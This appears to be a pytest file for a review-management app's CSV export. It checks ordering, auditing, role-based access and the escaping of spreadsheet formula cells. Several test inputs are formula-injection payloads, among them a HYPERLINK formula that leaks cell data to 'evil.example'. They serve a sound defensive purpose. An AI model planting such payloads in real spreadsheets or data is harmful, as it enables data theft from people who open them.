"""The review list as a CSV file: the filtered list in order, neutralised cells, the audit
event, who may export, and bad filters sent back to the list that explains them."""

from __future__ import annotations

import csv
import io

import pytest

from sfo_review.extensions import db
from sfo_review.models import AuditEvent
from tests.helpers_forms import expect_status, sign_in
from tests.reviews.helpers import error_for


def read_csv(response) -> list[list[str]]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")  # Excel needs the byte order mark to read UTF-8
    return list(csv.reader(io.StringIO(text[1:])))


def test_the_export_holds_the_filtered_list_in_order(client, as_leadership):
    response = client.get("/reviews.csv?region=London&sort=due_date&order=desc")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="sfo-reviews-')
    assert response.headers["Cache-Control"] == "no-store"
    rows = read_csv(response)
    assert rows[0][:4] == ["Reference", "CRN", "Initials", "Offence charged"]
    assert "Deadline in force" in rows[0] and "Extension waiting for a decision" in rows[0]
    assert [r[1] for r in rows[1:]] == ["B222222", "A111111"]
    assert rows[1][rows[0].index("Status")] == "Factual accuracy"
    assert rows[1][rows[0].index("Deadline flag")] == "Overdue"


def test_the_export_is_audited(client, as_leadership):
    client.get("/reviews.csv?status=approved")
    event = db.session.query(AuditEvent).filter_by(action="reviews.exported").one()
    assert event.summary == "Exported a list of 1 review as a CSV file"
    assert event.detail["filters"] == {"status": ["approved"]}
    assert event.review_id is None


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x","y")', "+44 20 7946 0000", "-2+3", "@SUM(A1:A2)", "\tTab", "\rCR"],
)
def test_cells_a_spreadsheet_would_run_are_neutralised(client, login_as, make_review, text):
    review = make_review(offence_charged=text)
    review.pdu = text  # not on the list (issue 19): as typed before it, not yet mapped
    db.session.commit()
    login_as("leadership")
    rows = read_csv(client.get("/reviews.csv"))
    header = rows[0]
    for column in ("Offence charged", "PDU"):
        assert rows[1][header.index(column)] == "'" + text
    assert rows[1][header.index("Region")] == "London"  # ordinary cells are left alone


def test_a_spreadsheet_splitting_on_semicolons_sees_no_formula_either(
    client, login_as, make_review
):
    from tests.services.test_csv_cells import formula_cells

    make_review(offence_charged='Assault;=HYPERLINK("http://evil.example/?"&A1,"x")')
    review = make_review(offence_charged="Theft\n-2+3")
    review.pdu = "Camden, +SUM(A1)"  # as typed before the list of PDUs (issue 19)
    db.session.commit()
    login_as("leadership")

    response = client.get("/reviews.csv")

    assert formula_cells(response.data) == []
    rows = read_csv(response)
    header = rows[0]
    offences = {r[header.index("Offence charged")] for r in rows[1:]}
    assert 'Assault;\'=HYPERLINK("http://evil.example/?"&A1,"x")' in offences
    assert "Theft\n'-2+3" in offences


def test_an_export_with_bad_filters_goes_back_to_the_list_which_explains(client, as_leadership):
    response = client.get("/reviews.csv?status=bogus&region=London")
    assert response.status_code == 302
    assert response.headers["Location"] == "/?status=bogus&region=London"
    assert db.session.query(AuditEvent).filter_by(action="reviews.exported").count() == 0
    assert "Status must only contain" in error_for(
        client.get(response.headers["Location"]), "status"
    )


EXPORT = {
    "reviewer": 200,
    "officer": 200,
    "quality_assurer": 200,
    "leadership": 200,
    "admin": 403,
    "anonymous": "sign-in",
}


@pytest.mark.parametrize("role", EXPORT)
def test_who_may_export(client, login_as, full_review, role):
    data = full_review()
    sign_in(role, data, login_as)
    response = client.get("/reviews.csv")
    expect_status(response, EXPORT[role])
    if EXPORT[role] == 200:
        rows = read_csv(response)
        visible = {"reviewer": 1, "officer": 1, "quality_assurer": 0, "leadership": 1}[role]
        assert len(rows) == 1 + visible
        if role == "officer":
            assert "Extension waiting for a decision" not in rows[0]
